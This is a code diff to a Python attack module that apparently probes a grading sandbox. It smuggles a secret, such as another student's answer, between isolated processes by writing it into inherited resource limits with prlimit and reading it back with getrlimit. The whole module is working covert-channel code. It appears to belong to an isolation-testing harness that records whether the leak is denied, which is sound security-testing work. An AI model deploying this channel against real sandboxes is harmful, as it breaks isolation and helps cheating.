@@ -2,42 +2,47 @@
 """limits-mailbox.py - two words of 64 bits that everybody inherits.
 
 Goal: another student's work, or an answer passed on.
-Means: prlimit(2) on the worker. RLIMIT_RSS and RLIMIT_LOCKS have had no meaning since Linux 2.4, but
-each still has a soft value of 64 bits, which one process of a user may set in another. What is put
-into the worker's is inherited by every student that it starts afterwards: that one only asks itself.
+Means: prlimit(2) on the worker. RLIMIT_RSS and RLIMIT_LOCKS have had no meaning since Linux 2.4, others
+are unlimited and have none then; but each has a soft value of 64 bits and a hard one above it, which one
+process of a user may set in another. What is put into the worker's is inherited by every student that it
+starts afterwards: that one only asks itself. One limit that nobody sets anew is box enough.
 """
 
 import resource
 
 from attack import DONE, attempting, denied, honest, loot
 
-RLIMIT_LOCKS = 10
-BOXES = (resource.RLIMIT_RSS, RLIMIT_LOCKS)
+RLIMIT_LOCKS, RLIMIT_RTTIME = 10, 15
+BOXES = (resource.RLIMIT_RSS, RLIMIT_LOCKS, RLIMIT_RTTIME, resource.RLIMIT_CORE, resource.RLIMIT_STACK,
+         resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_DATA, resource.RLIMIT_FSIZE)
 
 
 def run(brief):
     attempting()
     try:
-        words = [resource.getrlimit(box)[0] for box in BOXES]
+        full = [words for box in BOXES if resource.RLIM_INFINITY not in (words := resource.getrlimit(box))]
     except (OSError, ValueError) as why:
         return denied("getrlimit", why)
-    if resource.RLIM_INFINITY in words:
+    if not full:
         return denied("getrlimit", "the boxes are empty")
-    loot("".join(f"{word & 2**64 - 1:016x}" for word in words))
+    for words in full:
+        low, high = (f"{word & 2**64 - 1:016x}" for word in words)
+        loot(f"{low}{high}\n{high}{low}\n")  # the soft one was the smaller one, whichever came first
     return DONE
 
 
 def victim(brief):
     """The accomplice. Where the worker is out of reach, it keeps the word in a file."""
-    halves = brief.secret[:16], brief.secret[16:]
-    try:
-        for box, half in zip(BOXES, halves):
-            word = int(half, 16)
-            signed = word - 2**64 if word >= 2**63 else word
-            resource.prlimit(brief.worker, box, (signed, resource.RLIM_INFINITY))
-        return DONE
-    except (OSError, ValueError):
-        return honest(brief)
+    low, high = sorted((int(brief.secret[:16], 16), int(brief.secret[16:], 16)))
+    words = tuple(word - 2**64 if word >= 2**63 else word for word in (low, high))
+    put = 0
+    for box in BOXES:
+        try:
+            resource.prlimit(brief.worker, box, words)
+            put += 1
+        except (OSError, ValueError):
+            pass  # a limit that is one already
+    return DONE if put else honest(brief)
 
 
 ATTACK = {
